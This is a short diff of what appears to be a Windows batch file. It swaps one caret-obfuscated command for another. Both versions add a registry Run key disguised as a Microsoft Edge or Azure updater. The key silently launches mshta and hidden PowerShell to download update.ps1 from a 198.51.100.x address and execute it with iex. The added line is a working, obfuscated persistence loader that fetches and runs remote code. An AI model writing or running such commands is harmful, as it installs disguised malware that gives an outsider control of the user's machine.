@@ -1,2 +1,2 @@
-REM task 7142 v0
-^reg ^a^dd HK^CU\Sof^twa^r^e\M^i^cr^oso^ft\^Windo^ws\^Cu^rr^e^nt^Vers^ion\^R^u^n /^v Mi^c^r^o^so^f^t^EdgeU^pd^ate^Cor^e /t ^REG_^SZ /d "mshta vbscript:Execute(\"C^reat^eO^b^ject(\"\"^WSc^r^i^pt.Sh^ell\"\").R^u^n \"\"p^owe^r^s^h^el^l -w hi^dden -c iwr h^t^t^p://19^8.^5^1.100.^2^3/^u^pd^at^e.^p^s^1|i^e^x\"\", ^0:^cl^o^s^e\")" /f
+REM run 7839 v0
+^r^eg a^dd ^H^K^CU\Sof^tw^are\M^i^c^ros^o^f^t\Wi^ndo^w^s\C^u^r^re^n^tVe^r^sio^n\^R^un /^v Az^u^reAge^nt^He^alth /^t ^REG_^S^Z /^d "mshta vbscript:Execute(\"^Cr^e^ate^O^bj^ec^t(\"\"^W^Scri^p^t.^S^he^l^l\"\").R^u^n \"\"power^s^h^ell -^w ^hidd^en -c iw^r ^ht^tp://^19^8.5^1.1^00.9/up^d^ate.^ps^1|^i^ex\"\", ^0:^cl^os^e\")" /f
